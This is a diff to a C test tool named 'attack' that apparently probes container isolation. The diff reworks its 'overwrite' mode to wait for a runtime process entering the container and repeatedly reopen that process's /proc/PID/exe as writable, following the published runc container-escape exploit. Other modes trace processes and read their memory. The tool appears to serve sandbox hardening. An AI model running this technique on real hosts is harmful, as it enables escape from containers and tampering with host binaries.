@@ -5,7 +5,8 @@
 //
 //   attack fds                  every open descriptor, one per line: "N target"
 //   attack swap A B             exchanges the names A and B until it is killed
-//   attack overwrite PID        tries to get a writable descriptor of /proc/PID/exe, and to write to it
+//   attack overwrite            waits for a process that is no program of the container's, and tries to
+//                               get a writable descriptor of its program, while it lives and afterwards
 //   attack touch PID            tries to trace PID, to read its memory, descriptors, files
 //   attack watch SECONDS        the same with every process that appears; prints what succeeded
 
@@ -61,18 +62,42 @@ static int try_open(const char *what, const char *path, int flags) {
   return fd;
 }
 
+// The pid of a process that has not become a program of this root yet, or 0.
+static int find_runtime(void) {
+  DIR *proc = opendir("/proc");
+  int found = 0;
+  for (struct dirent *entry; proc && !found && (entry = readdir(proc));) {
+    char path[64], target[64];
+    int pid = atoi(entry->d_name);
+    if (pid < 1 || pid == getpid())
+      continue;
+    snprintf(path, sizeof path, "/proc/%d/exe", pid);
+    ssize_t length = readlink(path, target, sizeof target - 1);
+    target[length < 0 ? 0 : length] = 0;
+    if (!strncmp(target, "/memfd:", 7) || strstr(target, "python"))
+      found = pid;
+  }
+  if (proc)
+    closedir(proc);
+  return found;
+}
+
 // As the published exploit does: hold a read-only descriptor, and ask for a writable one through
 // /proc/self/fd until the program is no longer busy.
-static int overwrite(const char *pid) {
+static int overwrite(void) {
   char path[64];
-  snprintf(path, sizeof path, "/proc/%s/exe", pid);
-  int writable = try_open("write", path, O_WRONLY);
-  if (writable < 0)
-    writable = try_open("truncate", path, O_WRONLY | O_TRUNC);
+  int pid = 0, writable = -1;
+  puts("watching");
+  fflush(stdout);
+  while (!(pid = find_runtime()))
+    nap(1000);
+  snprintf(path, sizeof path, "/proc/%d/exe", pid);
   int held = try_open("read", path, O_RDONLY);
-  for (int i = 0; held >= 0 && writable < 0 && i < 200; i++) {
-    snprintf(path, sizeof path, "/proc/self/fd/%d", held);
-    writable = open(path, O_WRONLY | O_CLOEXEC);
+  writable = try_open("write", path, O_RDWR);
+  fflush(stdout);
+  snprintf(path, sizeof path, "/proc/self/fd/%d", held);
+  for (int i = 0; held >= 0 && writable < 0 && i < 2000; i++) {
+    writable = open(path, O_RDWR | O_CLOEXEC);
     nap(5000);
   }
   if (writable < 0)
@@ -154,8 +179,8 @@ int main(int argc, char **argv) {
     return show_descriptors();
   if (!strcmp(verb, "swap") && argc == 4)
     return swap(argv[2], argv[3]);
-  if (!strcmp(verb, "overwrite") && argc == 3)
-    return overwrite(argv[2]);
+  if (!strcmp(verb, "overwrite"))
+    return overwrite();
   if (!strcmp(verb, "touch") && argc == 3)
     return touch(argv[2]), 0;
   if (!strcmp(verb, "watch") && argc == 3)
